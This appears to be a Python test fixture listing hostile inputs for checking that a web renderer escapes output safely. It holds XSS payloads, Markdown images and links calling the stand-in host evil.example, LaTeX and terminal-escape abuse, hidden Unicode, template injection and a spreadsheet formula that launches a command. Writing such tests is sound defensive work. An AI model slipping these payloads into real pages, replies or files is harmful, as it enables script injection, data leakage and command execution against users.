r"""Hostile texts: shown without escaping, each would load, run, link, cover or hide something on a page.

Each active one names `evil.example` or calls `owned()`, which browser tests detect.
"""

from __future__ import annotations

HOST = "evil.example"

ATTACKS: dict[str, str] = {
    "script": "<script>owned()</script>",
    "image with a handler": '<img src="x" onerror="owned()">',
    "svg with a handler": "<svg onload=owned()><a xlink:href='https://evil.example/s'><text>x</text></a></svg>",
    "frame": '<iframe srcdoc="<script>parent.owned()</script>" src="https://evil.example/f"></iframe>',
    "form": '<form action="https://evil.example/form"><input name=q><button>Continue</button></form>',
    "style": "<style>@import url(https://evil.example/s.css); body{display:none}</style>",
    "Markdown image": "![pixel](https://evil.example/pixel.png)",
    "Markdown image by reference": "![pixel][p]\n\n[p]: https://evil.example/reference.png",
    "Markdown link": "[download the answer](https://evil.example/link)",
    "script address": "[x](javascript:owned()) <javascript:owned()>",
    "bare address": "see https://evil.example/bare and www.evil.example/www or mail me@evil.example",
    "address in brackets": "<https://evil.example/auto> <me@evil.example>",
    "formula with a link": r"$\href{https://evil.example/href}{x}$ and $$\url{https://evil.example/url}$$",
    "formula with an image": r"\[\includegraphics[width=9em]{https://evil.example/f.png}\]",
    "formula with HTML": r"$\htmlId{root}{x} \htmlClass{x}{y} \htmlStyle{position:fixed}{z} \htmlData{a=b}{c}$",
    "formula over the page": r"$\rule{9999em}{9999em}$ $$\raisebox{99em}{x}$$ $\hspace{-99em}x$ $\kern-99em x$",
    "formula without end": r"$\def\a{\a\a}\a$ $\newcommand{\b}{\b\b}\b$ $" + "{" * 900 + "}" * 900 + "$",
    "row far away": r"$$x\\[9999em]y$$ \[\begin{alignedat}{99999999}x\end{alignedat}\]",
    "directives": ":red[x] :material/delete: :streamlit: :smile: :blue-background[y] :image[z]{src=https://evil.example/d}",
    "diagram": "```mermaid\ngraph TD; A-->B; click A 'https://evil.example/m'\n```",
    "fence that ends early": "````\n```\n</code></pre><script>owned()</script>\n~~~\n`` ` ``",
    "table and headings": "# x\n\n|a|b|\n|-|-|\n|![p](https://evil.example/t.png)|<b onclick=owned()>b</b>|\n\n---\n",
    "right to left": "answer \u202eA si rewsna\u202c \u2066x\u2069 \u200bzero\u200bwidth\ufeff",
    "terminal escapes": "\x1b]8;;https://evil.example/osc\x07click\x1b]8;;\x07\x1b[2J\x9b31m\x00\x07\r\x08",
    "hidden tags": "A\U000e0041\U000e0042\U000e007f\u115f\u3164\ufe0f",
    "spreadsheet formula": '=HYPERLINK("https://evil.example/x";"A") +cmd|\' /C calc\'!A0',
    "character references": "&lt;script&gt;owned()&lt;/script&gt; &#60;img src=x onerror=owned()&#62;",
    "template": "{{constructor.constructor('owned()')()}} ${owned()} <%= owned() %>",
}
